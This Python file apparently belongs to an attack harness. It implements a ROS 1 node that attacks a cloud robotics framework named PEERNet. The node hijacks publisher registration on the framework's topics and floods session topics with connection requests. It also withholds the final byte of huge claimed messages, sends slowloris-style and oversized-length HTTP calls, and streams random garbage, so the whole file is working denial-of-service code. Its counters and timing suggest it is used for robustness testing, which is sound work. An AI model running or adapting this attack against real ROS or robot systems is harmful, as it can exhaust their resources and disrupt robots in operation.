"""A ROS 1 node that does what no node should to a cloud of PEERNet: part of attack.py."""

from __future__ import annotations

import asyncio
import os
import socket
import struct
import threading
import uuid
from contextlib import suppress
from typing import TYPE_CHECKING
from urllib.parse import urlparse
from xmlrpc.client import Fault, ServerProxy
from xmlrpc.server import SimpleXMLRPCServer

if TYPE_CHECKING:
    from attack import Attack, Connection

# Number of pipelines for which the node requests connections, again and again.
PIPELINES = 60
# Length of a message that is sent without its last byte: on topics of the robot's session, and on the node's own
# topics, where the cloud refuses messages of more than 64 KiB.
CLAIMED, OWN_CLAIMED = 50_000_000, 60_000
CHUNK = 16 * 1024
NODE = "/attack"


def text(value: str) -> bytes:
    """A string as ROS 1 writes it."""
    return struct.pack("<I", len(value)) + value.encode()


def frame(data: bytes) -> bytes:
    """A message of TCPROS."""
    return struct.pack("<I", len(data)) + data


class RosAttack:
    """A node that publishes on the cloud's topics and on those of the robot's session."""

    def __init__(self, attack: Attack, master_port: int) -> None:
        self.attack = attack
        self.master = ServerProxy(f"http://{attack.address}:{master_port}")
        with socket.create_connection((attack.address, master_port)) as connection:
            self.host = connection.getsockname()[0]
        self.port = 0
        self.uri = ""

    async def run(self) -> None:
        """Attacks until the time is over."""
        server = await asyncio.start_server(self._subscribed, self.host, 0)
        self.port = server.sockets[0].getsockname()[1]
        slave = SimpleXMLRPCServer((self.host, 0), logRequests=False, allow_none=True)
        self.uri = f"http://{self.host}:{slave.server_address[1]}/"
        slave.register_function(lambda *_: [1, "", ["TCPROS", self.host, self.port]], "requestTopic")
        slave.register_function(lambda *_: [1, "", 1], "getPid")
        slave.register_function(lambda *_: [1, "", 0], "publisherUpdate")
        threading.Thread(target=slave.serve_forever, daemon=True).start()
        try:
            calls_port, messages_port = await asyncio.to_thread(self._register)
            await asyncio.gather(
                *(self.attack.keep_connecting(calls_port, behave, 0) for behave in (slow_call, claimed_call, garbage)),
                *(
                    self.attack.keep_connecting(messages_port, behave, 0)
                    for behave in (claimed_header, half_a_header, garbage)
                ),
            )
        finally:
            slave.shutdown()
            server.close()

    def _register(self) -> tuple[int, int]:
        """Publishes on every topic of PEERNet; returns the cloud's two ports, of calls and of messages."""
        publishers, subscribers, _ = self._ask("getSystemState")
        # The node that subscribes to the topic of sessions is the cloud.
        sessions, (cloud, *_) = next(entry for entry in subscribers if entry[0].endswith("/sessions"))
        foreign = [topic for topic, _ in publishers if topic.endswith(("/request", "/request_info"))]
        own = [f"{NODE}/{number}/request_info" for number in range(PIPELINES)]
        for topic in (sessions, *foreign, *own):
            self._ask("registerPublisher", topic, "*", self.uri)
        calls_port = urlparse(self._ask("lookupNode", cloud)).port
        node = ServerProxy(f"http://{self.attack.address}:{calls_port}")
        answer_topic = next(topic for topic, nodes in publishers if cloud in nodes and topic.endswith("/response_info"))
        _, _, (_, _, messages_port) = node.requestTopic(NODE, answer_topic, [["TCPROS"]])
        return calls_port, messages_port

    def _ask(self, method: str, *arguments: str) -> object:
        code, reason, value = getattr(self.master, method)(NODE, *arguments)
        if code != 1:
            raise Fault(code, reason)
        return value

    async def _subscribed(self, reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
        """Serves a subscription of the cloud or the robot to one of the topics."""
        self.attack.counts.connections += 1
        with suppress(OSError, asyncio.IncompleteReadError):
            topic, answer = await self._handshake(reader)
            writer.write(answer)
            if topic.endswith("/sessions"):
                await self._ask_for_connections(writer)
            else:
                await self._claim(writer, OWN_CLAIMED if topic.startswith(NODE) else CLAIMED)
        # Before the attack is over, only the other side ends such a connection.
        self.attack.counts.closed_by_peer += self.attack.goes_on()
        writer.close()

    async def _handshake(self, reader: asyncio.StreamReader) -> tuple[str, bytes]:
        """Reads the subscriber's header; returns the topic and a header that agrees to everything."""
        (size,) = struct.unpack("<I", await reader.readexactly(4))
        header, fields = await reader.readexactly(size), {}
        while header:
            (length,) = struct.unpack_from("<I", header)
            name, _, value = header[4 : 4 + length].decode().partition("=")
            fields[name], header = value, header[4 + length :]
        agreed = {"md5sum": fields["md5sum"], "type": fields["type"], "callerid": NODE, "latching": "0"}
        answer = b"".join(text(f"{name}={value}") for name, value in agreed.items())
        return fields["topic"], frame(answer)

    async def _send(self, writer: asyncio.StreamWriter, data: bytes) -> None:
        await self.attack.rate.take(len(data))
        writer.write(data)
        await writer.drain()
        self.attack.counts.bytes_sent += len(data)

    async def _ask_for_connections(self, writer: asyncio.StreamWriter) -> None:
        """Requests a connection for each pipeline in turn, and after each request sends bytes that are no request."""
        while self.attack.goes_on():
            for number in range(PIPELINES):
                names = (NODE, f"host{number}", f"{NODE}/{number}")
                hello = bytes(12) + text(uuid.uuid4().hex) + b"".join(map(text, names))
                await self._send(writer, frame(hello))
                await self._send(writer, frame(os.urandom(100)))
            await asyncio.sleep(0.1)

    async def _claim(self, writer: asyncio.StreamWriter, size: int) -> None:
        """Sends a message of this length without its last byte, and waits."""
        await self._send(writer, struct.pack("<I", size))
        for sent in range(0, size - 1, CHUNK):
            await self._send(writer, bytes(min(CHUNK, size - 1 - sent)))
            if not self.attack.goes_on():
                return
        while self.attack.goes_on():
            await asyncio.sleep(0.5)
            if writer.is_closing():
                return


async def slow_call(connection: Connection) -> None:
    await connection.send(b"POST / HTTP/1.1\r\nContent-Length: 1000\r\n\r\n<?xml")


async def claimed_call(connection: Connection) -> None:
    await connection.send(b"POST / HTTP/1.1\r\nContent-Length: 4611686018427387904\r\n\r\n")
    await garbage(connection)


async def claimed_header(connection: Connection) -> None:
    await connection.send(struct.pack("<I", 0xFFFFFFFF))
    await garbage(connection)


async def half_a_header(connection: Connection) -> None:
    await connection.send(struct.pack("<I", 200) + text("topic=/look/response_info"))


async def garbage(connection: Connection) -> None:
    while connection.attack.goes_on():
        await connection.send(os.urandom(CHUNK))
